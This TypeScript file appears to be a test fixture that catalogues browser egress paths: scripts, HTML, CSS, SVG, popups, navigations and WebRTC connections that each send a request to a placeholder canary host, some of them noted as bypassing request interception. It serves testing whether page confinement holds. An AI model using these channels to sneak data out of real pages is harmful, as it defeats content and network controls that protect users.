/** JavaScript that sends a request from a page. HOST stands for the canary's address. */
const scripts = {
  fetch: `fetch('http://HOST/')`,
  'fetch, kept alive': `fetch('http://HOST/', { mode: 'no-cors', keepalive: true })`,
  fetchLater: `fetchLater('http://HOST/', { activateAfter: 0 })`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', 'http://HOST/'); request.send()`,
  WebSocket: `new WebSocket('ws://HOST/')`,
  WebSocketStream: `new WebSocketStream('ws://HOST/')`,
  EventSource: `new EventSource('http://HOST/')`,
  sendBeacon: `navigator.sendBeacon('http://HOST/', 'x')`,
  WebTransport: `new WebTransport('https://HOST/')`,
  'cache.add': `caches.open('x').then((it) => it.add('http://HOST/'))`,
  Image: `new Image().src = 'http://HOST/'`,
  Audio: `new Audio('http://HOST/').play()`,
  FontFace: `new FontFace('x', 'url(http://HOST/)').load()`,
  import: `import('http://HOST/')`,
  worklet: `new AudioContext().audioWorklet.addModule('http://HOST/')`,
  'paint worklet': `CSS.paintWorklet.addModule('http://HOST/')`,
  'worker that imports': `new Worker(URL.createObjectURL(new Blob(["importScripts('http://HOST/')"])))`,
  'worker that fetches': `new Worker(URL.createObjectURL(new Blob(["fetch('http://HOST/')"])))`,
  'worker with a WebSocket': `new Worker(URL.createObjectURL(new Blob(["new WebSocket('ws://HOST/')"])))`,
  'worker from data': `new Worker('data:text/javascript,' + encodeURIComponent("fetch('http://HOST/')"))`,
  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://HOST/')"])))`,
  'constructed style sheet': `
    const sheet = new CSSStyleSheet(); sheet.replaceSync('html { background: url(http://HOST/) }')
    document.adoptedStyleSheets.push(sheet)`,
  'frame that fetches': `${appendElement('iframe')}; it.contentWindow.fetch('http://HOST/')`,
  'frame with a WebSocket': `${appendElement('iframe')}; new it.contentWindow.WebSocket('ws://HOST/')`,
  'frame with a script': appendElement('iframe', `it.srcdoc = '<script>fetch("http://HOST/")<\\/script>'`),
  'script source': appendElement('script', `it.src = 'http://HOST/'`),
  'inline script': appendElement('script', `it.textContent = 'fetch("http://HOST/")'`),
  'module script': appendElement('script', `it.type = 'module'; it.src = 'http://HOST/'`),
  'speculative prefetch': speculationRules('prefetch'),
  'speculative prerender': speculationRules('prerender'),
  'picture-in-picture': `documentPictureInPicture.requestWindow().then((it) => it.fetch('http://HOST/'))`,
} as const

/** WebRTC connections, which bypass request interception. */
const webRtc = {
  'WebRTC STUN': `${peerConnection(`{ urls: 'stun:HOST' }`)}; it.createOffer().then((offer) => it.setLocalDescription(offer))`,
  'WebRTC TURN': `${peerConnection(`{ urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b' }`)}
    it.createOffer().then((offer) => it.setLocalDescription(offer))`,
  'WebRTC peer': `${peerConnection('')}; const to = new RTCPeerConnection(); kept.push(to)
    const tell = async (a, b) => { await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription) }
    const candidate = 'candidate:1 1 udp 9 ' + 'HOST'.replace(':', ' ') + ' typ host'
    tell(it, to).then(() => tell(to, it)).then(() => it.addIceCandidate({ candidate, sdpMid: '0' }))`,
} as const

/** Requests from another page than the confined one. */
const popups = {
  popup: `open('http://HOST/')`,
  'popup without opener': `open('http://HOST/', '', 'noopener')`,
  'popup from a form': `${insertHtml(`<form id="popup" method="post" action="http://HOST/" target="_blank"></form>`)}; popup.submit()`,
  'popup, written to': `open('about:blank').document.write('<img src="http://HOST/">')`,
  'popup that fetches': `open('about:blank').fetch('http://HOST/')`,
  'popup with a WebSocket': `const it = open('about:blank'); new it.WebSocket('ws://HOST/')`,
  'popup from a blob': `open(URL.createObjectURL(new Blob(["<img src='http://HOST/'>"], { type: 'text/html' })))`,
} as const

/** HTML that sends a request once it is inserted into a page. */
const markup = {
  '<img>': `<img src="http://HOST/">`,
  '<img srcset>': `<img srcset="http://HOST/ 1x">`,
  '<img onerror>': `<img src="data:," onerror="fetch('http://HOST/')">`,
  '<picture>': `<picture><source srcset="http://HOST/"><img></picture>`,
  '<input type=image>': `<input type="image" src="http://HOST/">`,
  '<video>': `<video src="http://HOST/" autoplay muted></video>`,
  '<video poster>': `<video poster="http://HOST/"></video>`,
  '<object>': `<object data="http://HOST/"></object>`,
  '<embed>': `<embed src="http://HOST/">`,
  '<table background>': `<table background="http://HOST/"><tr><td>x</table>`,
  '<iframe>': `<iframe src="http://HOST/"></iframe>`,
  '<iframe srcdoc>': `<iframe srcdoc="<img src='http://HOST/'>"></iframe>`,
  '<iframe sandbox>': `<iframe sandbox="allow-scripts" srcdoc="<img src='http://HOST/'>"></iframe>`,
  '<iframe> of data': `<iframe src="data:text/html,<img src='http://HOST/'>"></iframe>`,
  '<iframe> of scripted data': `<iframe src="data:text/html,<script>new WebSocket('ws://HOST/')</script>"></iframe>`,
  '<iframe> of javascript:': `<iframe src="javascript:fetch('http://HOST/')"></iframe>`,
  '<iframe> with a base': `<iframe srcdoc="<base href='http://HOST/'><img src=x>"></iframe>`,
  '<iframe> that refreshes': `<iframe srcdoc="<meta http-equiv=refresh content='0;url=http://HOST/'>"></iframe>`,
  '<link stylesheet>': `<link rel="stylesheet" href="http://HOST/">`,
  '<link stylesheet> that imports': `<link rel="stylesheet" href="data:text/css,@import url(http://HOST/)">`,
  '<link preload>': `<link rel="preload" as="image" href="http://HOST/">`,
  '<link modulepreload>': `<link rel="modulepreload" href="http://HOST/">`,
  '<link prefetch>': `<link rel="prefetch" href="http://HOST/">`,
  'CSS @import': `<style>@import url(http://HOST/);</style>`,
  'CSS @font-face': `<style>@font-face { font-family: canary; src: url(http://HOST/) }</style><p style="font-family: canary">text</p>`,
  'CSS background': `<div style="background: url(http://HOST/)">x</div>`,
  'CSS image-set': `<div style="background: image-set('http://HOST/' 1x)">x</div>`,
  'CSS list-style': `<ul style="list-style: url(http://HOST/)"><li>x</ul>`,
  'CSS cursor': `<div style="cursor: url(http://HOST/), auto">x</div>`,
  'CSS mask': `<div style="mask: url(http://HOST/#a)">x</div>`,
  'CSS content': `<div style="content: url(http://HOST/)">x</div>`,
  'SVG image': `<svg><image href="http://HOST/" width="9" height="9"/></svg>`,
  'SVG feImage': `<svg><filter id="f"><feImage href="http://HOST/"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
} as const

/** HTML that sends a request only after a click or a submission. */
const scriptedMarkup = {
  '<a ping>': `${insertHtml(`<a id="pinging" ping="http://HOST/" href="#x">x</a>`)}; pinging.click()`,
  '<form> into a frame': `
    ${insertHtml(`<iframe name="inner"></iframe><form id="framed" action="http://HOST/" target="inner"></form>`)}
    framed.submit()`,
  'SVG document': appendElement(
    'iframe',
    `it.src = URL.createObjectURL(new Blob(
      ['<svg xmlns="http://www.w3.org/2000/svg"><image href="http://HOST/"/></svg>'], { type: 'image/svg+xml' }))`,
  ),
} as const

/** JavaScript that navigates the page to another document. */
const navigations = {
  location: `location.href = 'http://HOST/'`,
  link: `${appendElement('a', `it.href = 'http://HOST/'`)}; it.click()`,
  download: `${appendElement('a', `it.href = 'http://HOST/'; it.download = 'x'`)}; it.click()`,
  form: `${appendElement('form', `it.action = 'http://HOST/'`)}; it.submit()`,
  'meta refresh': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=http://HOST/">')`,
  'javascript: address': `location.href = "javascript:void fetch('http://HOST/')"`,
} as const

/** HTML that sends requests in Chrome, but not in its headless shell: no control can show that it works. */
const chromeOnlyMarkup = {
  '<link preconnect>': `<link rel="preconnect" href="http://HOST/">`,
  '<link dns-prefetch>': `<link rel="dns-prefetch" href="//prefetch.canary.test">`,
  '<link prerender>': `<link rel="prerender" href="http://HOST/">`,
  '<link icon>': `<link rel="icon" href="http://HOST/">`,
  '<link manifest>': `<link rel="manifest" href="http://HOST/">`,
  '<video> with a track': `<video src="data:video/mp4,"><track default src="http://HOST/"></video>`,
  'CSS filter': `<div style="filter: url(http://HOST/#a)">x</div>`,
  'SVG use': `<svg><use href="http://HOST/#a"/></svg>`,
} as const

const chromeOnlyScripts = {
  'payment method': `new PaymentRequest([{ supportedMethods: 'https://HOST/' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } })`,
} as const

/** Requests to names that do not resolve: only the DNS query shows them. */
const lookups = {
  'fetch by name': `fetch('https://fetch.canary.test/')`,
  'popup by name': `open('https://popup.canary.test/')`,
} as const

const code = { ...scripts, ...webRtc, ...popups, ...scriptedMarkup, ...navigations } as const

/** Name of an egress path. */
export type EgressPath = keyof typeof code | keyof typeof markup

/** All egress paths that reach the canary from an unconfined page, as JavaScript. */
export const egressPaths: Readonly<Record<EgressPath, string>> = { ...code, ...mapValues(markup, insertHtml) }

/** The egress paths of `egressPaths` as HTML, each short enough for the label of a node. */
export const egressHtml: Readonly<Record<EgressPath, string>> = { ...mapValues(code, scriptElement), ...markup }

/** Egress paths that navigate the page: a test needs another page for each. */
export const navigatingPaths: ReadonlySet<string> = new Set(Object.keys(navigations))

/** Egress paths that use WebRTC. */
export const webRtcPaths = Object.keys(webRtc) as EgressPath[]
/** Egress paths that open another page. */
export const popupPaths = Object.keys(popups) as EgressPath[]

const unverifiedCode = { ...chromeOnlyScripts, ...lookups } as const

/** Egress paths that no control can show to work, as JavaScript. */
export const unverifiedPaths = { ...unverifiedCode, ...mapValues(chromeOnlyMarkup, insertHtml) }

/** The egress paths of `unverifiedPaths` as HTML. */
export const unverifiedHtml = { ...mapValues(unverifiedCode, scriptElement), ...chromeOnlyMarkup }

function mapValues<Key extends string>(
  record: Readonly<Record<Key, string>>,
  change: (value: string) => string,
): Record<Key, string> {
  const entries = Object.entries<string>(record).map(([key, value]) => [key, change(value)])
  return Object.fromEntries(entries) as Record<Key, string>
}

function scriptElement(code: string): string {
  return `<script>{ ${code} }</script>`
}

/** Code that appends an element to the page, in a constant `it`. */
function appendElement(tag: string, change = ''): string {
  return `const it = document.createElement('${tag}'); ${change}; document.body.append(it)`
}

function insertHtml(text: string): string {
  return `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(text)})`
}

function speculationRules(action: 'prefetch' | 'prerender'): string {
  const rules = JSON.stringify({ [action]: [{ source: 'list', urls: ['http://HOST/'], eagerness: 'immediate' }] })
  return appendElement('script', `it.type = 'speculationrules'; it.textContent = '${rules}'`)
}

/** Code that opens a connection, in a constant `it`, and keeps a reference to it. */
function peerConnection(server: string): string {
  return `const it = new RTCPeerConnection({ iceServers: [${server}] }); (self.kept ??= []).push(it); it.createDataChannel('x')`
}
